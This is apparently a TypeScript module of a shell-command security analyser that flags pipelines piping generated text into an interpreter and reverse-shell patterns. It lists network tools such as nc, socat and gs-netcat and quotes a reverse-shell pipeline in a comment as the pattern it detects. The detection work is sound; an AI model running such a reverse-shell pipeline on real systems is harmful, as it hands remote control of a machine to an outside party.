import type { Span } from "../syntax/span.ts";
import type { Frame } from "./engine.ts";
import { BUILTIN_NAMES, INTERPRETERS, programName, SHELLS } from "./names.ts";
import { findProgram } from "./paths.ts";

const TALKERS: ReadonlySet<string> = new Set([
  "nc",
  "ncat",
  "netcat",
  "telnet",
  "socat",
  "openssl",
  "gs-netcat",
  "websocat",
]);
const WRAPPED = /^(env|nice|nohup|timeout|setsid|busybox|stdbuf|sudo|exec|command)$/;

/** Programs that put text together: the words of a command they print stand in their own arguments. */
const FORMERS: ReadonlySet<string> = new Set(
  "awk gawk mawk nawk sed perl python ruby node php jq yq printf echo cat ls find seq paste xargs envsubst m4".split(
    " ",
  ),
);

/** One command of a pipeline. */
export interface Stage {
  readonly text: string;
  /** Something is known of what it reads. */
  readonly fed: boolean;
}

/** What only the commands of a pipeline together do. */
export function notePipeline(frame: Frame, stages: readonly Stage[], span: Span): void {
  const heads = stages.map(({ text }) => head(text));
  noteShellOnNetwork(frame, heads, span);
  const runner = heads.findIndex((words, at) => at > 0 && stages[at]?.fed === false && takesProgram(words));
  const makers = heads.slice(0, Math.max(0, runner)).map(([name = ""]) => name);
  const [first] = makers;
  if (first === undefined || makers.some((name, at) => forms(name, heads[at] ?? []))) return;
  // A script of the host is read by itself.
  if (first === "" || findProgram(frame, heads[0]?.[0] ?? "")?.shape.head === "interpreted") return;
  const says = `${heads[runner]?.[0]} runs what ${first} prints.`;
  frame.session.say(frame, "output-to-interpreter", span, says, "medium", { program: first });
}

/** It puts commands together, or passes on what a script of the host says; `sed -n FILE` prints a file's own lines. */
function forms(name: string, [, ...args]: readonly string[]): boolean {
  if (name === "sed" && args.includes("-n") && args.some((arg) => arg.startsWith("/"))) return false;
  return FORMERS.has(name) || BUILTIN_NAMES.has(name);
}

/** `cat pipe | sh -i 2>&1 | nc host port > pipe` and its kin: a shell between or before network tools. */
function noteShellOnNetwork(frame: Frame, heads: readonly string[][], span: Span): void {
  const shell = heads.findIndex((words) => readsInput(words));
  const talker = heads.findIndex((words) => TALKERS.has(words[0] ?? "") && !isListenOnly(words));
  if (shell < 0 || talker < 0) return;
  const after = heads.findIndex((words, index) => index > shell && TALKERS.has(words[0] ?? ""));
  if (after < 0) return;
  const words = heads[after] ?? [];
  const host = words.find((word, index) => index > 0 && !word.startsWith("-") && /[.:a-z$]/i.test(word));
  const says = `The output of a shell is piped to ${words[0]}${host === undefined ? "" : ` ${host}`}, and its input comes from there.`;
  frame.session.say(frame, "reverse-shell", span, says, "high", host === undefined ? {} : { host });
}

function head(stage: string): string[] {
  const words = stage.split(" ", 64);
  let at = 0;
  while (
    at < words.length - 1 &&
    (WRAPPED.test(programName(words[at] ?? "")) || (at > 0 && /^-|^[0-9]+[smh]?$|=/.test(words[at] ?? "")))
  ) {
    at += 1;
  }
  return [programName(words[at] ?? ""), ...words.slice(at + 1)];
}

/** A shell without a script: what it is piped is what it runs. */
function readsInput(words: readonly string[]): boolean {
  const [name = "", ...args] = words;
  if (!SHELLS.has(name) && !INTERPRETERS.has(name)) return false;
  if (INTERPRETERS.get(name)?.language === "awk") return false;
  return args.every((arg) => arg.startsWith("-") && !/^-[a-z]*c/.test(arg));
}

/** `| sh`, `| bash -s ARGUMENTS`, `| python3 -`: nothing else can be its program. */
function takesProgram([name = "", first = ""]: readonly string[]): boolean {
  if (SHELLS.has(name)) return /^(-[ileux]*s?)?$/.test(first);
  return INTERPRETERS.has(name) && INTERPRETERS.get(name)?.language !== "awk" && /^-?$/.test(first);
}

function isListenOnly(words: readonly string[]): boolean {
  return words[0] === "openssl" && words[1] !== "s_client";
}
